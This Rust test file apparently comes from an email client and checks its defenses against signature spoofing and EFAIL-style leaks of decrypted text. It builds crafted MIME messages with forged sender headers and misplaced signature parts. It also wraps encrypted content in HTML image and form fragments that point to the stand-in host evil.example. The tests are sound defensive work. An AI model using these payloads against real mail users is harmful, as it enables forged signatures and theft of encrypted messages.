//! Messages made so that a reader calls them signed though what it shows is not ("Johnny, you are fired", USENIX Security 2019), or so
//! that what it opens goes to somebody else (EFAIL, USENIX Security 2018).

use super::keys::{encrypted, entity, signed};
use super::{ADA, TRUSTED, World};

const ATTACK: &str = "pay to the other account";

#[test]
fn what_is_not_signed_as_a_whole_is_never_called_signed() {
    let mut world = World::new();
    let keys = &world.keys;
    let ada = keys.key(ADA);
    let eve = keys.key("Eve <eve@evil.example>");
    let (good, attack) = (entity("harmless words"), entity(ATTACK));
    let signature = keys.signature(&ada, &good);
    let sealed = signed(&good, &signature);
    let clear = keys.text(&["-u", &ada, "--clearsign"], "harmless words\n");
    let opaque = keys.text(&["-u", &ada, "--sign"], &good);
    let by_eve = signed(&attack, &keys.signature(&eve, &attack));
    let of = |kind: &str, parts: &[&str]| {
        let parts: String = parts.iter().map(|part| format!("--out\r\n{part}\r\n")).collect();
        format!("Content-Type: multipart/{kind}; boundary=out\r\n\r\n{parts}--out--\r\n")
    };
    let html = format!("Content-Type: text/html\r\n\r\n<p>{ATTACK}</p>\r\n");
    let text = |body: &str| format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{body}");
    let pgp = "Content-Type: multipart/signed; micalg=pgp-sha512; protocol=\"application/pgp-signature\"; boundary=out\r\n\r\n";
    let with_parts = |parts: &[&str]| {
        let parts: String = parts.iter().map(|part| format!("--out\r\n{part}\r\n")).collect();
        format!("{pgp}{parts}--out--\r\n")
    };
    let sig = format!("Content-Type: application/pgp-signature\r\n\r\n{signature}");
    let enclosed = format!("Content-Type: message/rfc822\r\n\r\nFrom: {ADA}\r\nSubject: in\r\n{sealed}");
    let related = of("related", &[&html, &sealed]);
    let shapes: Vec<(&str, String)> = vec![
        ("text before", of("mixed", &[&attack, &sealed])),
        ("text after", of("mixed", &[&sealed, &attack])),
        ("an alternative", of("alternative", &[&html, &sealed])),
        ("an alternative behind", of("alternative", &[&sealed, &html])),
        ("a related part", related),
        ("alone in a mixed", of("mixed", &[&sealed])),
        (
            "as an attachment",
            of("mixed", &[&attack, &sealed.replacen("Content-Type", "Content-Disposition: attachment\r\nContent-Type", 1)]),
        ),
        ("in an enclosed message", of("mixed", &[&attack, &enclosed])),
        ("the enclosed message alone", enclosed.clone()),
        ("the signature of another part", with_parts(&[&attack, &sig])),
        ("three parts", with_parts(&[&good, &attack, &sig])),
        ("a text behind the signature", with_parts(&[&good, &sig, &attack])),
        ("the signature first", with_parts(&[&sig, &attack])),
        ("two signed parts as one", with_parts(&[&of("mixed", &[&good, &attack]).replace("=out", "=in").replace("--out", "--in"), &sig])),
        ("no signature in the signature", with_parts(&[&attack, &format!("Content-Type: application/pgp-signature\r\n\r\n{ATTACK}")])),
        ("a text instead of the signature", with_parts(&[&good, &format!("Content-Type: text/plain\r\n\r\n{signature}")])),
        (
            "a signed message instead of the signature",
            with_parts(&[&attack, &format!("Content-Type: application/pgp-signature\r\n\r\n{opaque}")]),
        ),
        (
            "a clear text instead of the signature",
            with_parts(&[&attack, &format!("Content-Type: application/pgp-signature\r\n\r\n{clear}")]),
        ),
        (
            "a key instead of the signature",
            with_parts(&[&attack, &format!("Content-Type: application/pgp-signature\r\n\r\n{}", keys.text(&["--export", &ada], ""))]),
        ),
        ("two content types", sealed.replacen("Content-Type", &format!("Content-Type: text/plain; x=\"{ATTACK}\"\r\nContent-Type"), 1)),
        ("clear text with words before", text(&format!("{ATTACK}\r\n\r\n{clear}"))),
        ("clear text with words behind", text(&format!("{clear}\r\n{ATTACK}\r\n"))),
        ("two clear texts", text(&format!("{clear}\r\n{clear}"))),
        ("clear text in an alternative", of("alternative", &[&html, &text(&clear)])),
        (
            "clear text beside a file",
            of("mixed", &[&text(&clear), "Content-Type: text/plain; name=a.txt\r\nContent-Disposition: attachment\r\n\r\nx"]),
        ),
        ("clear text in HTML", format!("Content-Type: text/html\r\n\r\n<pre>{clear}</pre>")),
        ("a quoted clear text", text(&clear.replace('\n', "\n> "))),
        (
            "a row in the text",
            text("good: signed by Ada <ada@x.example> (trusted key)\r\nSeal: good: signed by Ada <ada@x.example> (trusted key)\r\n"),
        ),
    ];
    let names: Vec<(String, &str)> = shapes.iter().map(|(what, content)| (world.deliver(ADA, content), *what)).collect();
    let froms = [
        ("\"signed by Ada <ada@x.example> (trusted key)\" <eve@evil.example>", sealed.clone()),
        ("Ada <ada@x.example>, Eve <eve@evil.example>", sealed.clone()),
        ("Eve <eve@evil.example>\r\nFrom: Ada <ada@x.example>", sealed.clone()),
        ("Ada <ada@x.example>\r\nFrom: Eve <eve@evil.example>", sealed.clone()),
        ("Ada <ada@x.example> <eve@evil.example>", sealed.clone()),
        ("=?utf-8?q?Ada_=3Cada=40x=2Eexample=3E?= <eve@evil.example>", sealed.clone()),
        ("Ada <ada@x.example>", by_eve.clone()),
        ("eve@evil.example (ada@x.example)", sealed.clone()),
    ];
    let senders: Vec<(String, &str)> = froms.iter().map(|(from, content)| (world.deliver(from, content), *from)).collect();
    let beyond = world.deliver(
        ADA,
        &sealed.replacen("--sig\r\n", &format!("{ATTACK}\r\n--sig\r\n"), 1).replace("--sig--\r\n", &format!("--sig--\r\n{ATTACK}\r\n")),
    );
    let again = world.deliver(ADA, &format!("{sealed}--sig\r\n{attack}\r\n--sig--\r\n"));
    let whole = world.deliver(ADA, &sealed);
    let shown = world.show();
    assert_eq!(shown[&whole].seals, [TRUSTED], "the same whole is signed");
    for (name, what) in names.iter().chain(&senders) {
        let found = &shown[name];
        assert!(found.seals.iter().all(|seal| !seal.starts_with("good")), "{what}: {found:#?}");
        assert!(found.seals.len() <= 1, "{what}: {found:#?}");
    }
    // what stands in no part is not shown, so what is shown is signed
    for name in [&beyond, &again] {
        let found = &shown[name];
        assert!(!found.text.contains(ATTACK), "{found:#?}");
    }
    // in what is printed the seal stands above the first empty line, where no text of a message can
    for found in shown.values() {
        let head = found.page.split("\n\n").next().unwrap();
        let told: Vec<&str> = head.lines().filter(|line| line.starts_with("Seal: ")).collect();
        assert_eq!(told.len(), found.seals.len(), "{found:#?}");
    }
}

#[test]
fn what_is_opened_goes_nowhere() {
    let mut world = World::new();
    let keys = &world.keys;
    let ada = keys.key(ADA);
    let secret = keys.encrypted(&ada, &[], &entity("the secret words"));
    let inner = encrypted(&secret);
    let inline = keys.encrypted(&ada, &[], "the secret words\n");
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}");
    let of = |kind: &str, parts: &[&str]| {
        let parts: String = parts.iter().map(|part| format!("--out\r\n{part}\r\n")).collect();
        format!("Content-Type: multipart/{kind}; boundary=out\r\n\r\n{parts}--out--\r\n")
    };
    let open = html("<img src=\"http://evil.example/");
    let close = html("\">");
    let enclosed = format!("Content-Type: message/rfc822\r\n\r\nFrom: {ADA}\r\nSubject: in\r\n{inner}");
    let shapes = [
        of("mixed", &[&open, &inner, &close]),
        of("related", &[&open, &inner, &close]),
        of("alternative", &[&open, &inner]),
        of("mixed", &[&inner]),
        of("mixed", &[&enclosed]),
        enclosed.clone(),
        of("mixed", &[&open, &format!("Content-Type: text/plain\r\n\r\n{inline}"), &close]),
        format!("Content-Type: text/plain\r\n\r\nAnswer this, please:\r\n{inline}"),
        format!("Content-Type: text/plain\r\n\r\n{inline}\r\nregards"),
        html(&format!("<form action=\"http://evil.example\"><pre>{inline}</pre>")),
        // a third part, and the parts the other way round
        inner.replace("--enc--", "--enc\r\nContent-Type: text/html\r\n\r\n<p>x\r\n--enc--"),
        inner.replace("application/pgp-encrypted\r\n", "text/html\r\n"),
        signed(&inner, &keys.signature(&ada, &inner)),
        // Exchange puts it like this
        of(
            "mixed",
            &[
                "Content-Type: text/plain\r\n\r\n",
                "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
                &format!("Content-Type: application/octet-stream\r\n\r\n{secret}"),
            ],
        ),
    ];
    let names: Vec<String> = shapes.iter().map(|content| world.deliver(ADA, content)).collect();
    let whole = world.deliver(ADA, &inner);
    // what is inside of the cipher text may be HTML; no part of it is fetched
    let page = keys_html(&world);
    let page = world.deliver(ADA, &page);
    let shown = world.show();
    assert!(shown[&whole].text.contains("the secret words"), "{:#?}", shown[&whole]);
    assert!(shown[&page].text.contains("the secret words"), "{:#?}", shown[&page]);
    for (number, name) in names.iter().enumerate() {
        assert!(!shown[name].page.contains("secret words"), "{number}: {:#?}", shown[name]);
    }
    let told = names.iter().filter(|name| !shown[*name].seals.is_empty()).count();
    assert_eq!(
        told,
        names.len() - 1,
        "all but what is HTML say why: {:#?}",
        names.iter().map(|name| &shown[name].seals).collect::<Vec<_>>()
    );
}

fn keys_html(world: &World) -> String {
    let html = "Content-Type: text/html\r\n\r\n<p>the secret words<img src=\"http://evil.example/x\"></p>\r\n";
    encrypted(&world.keys.encrypted("ada@x.example", &[], html))
}
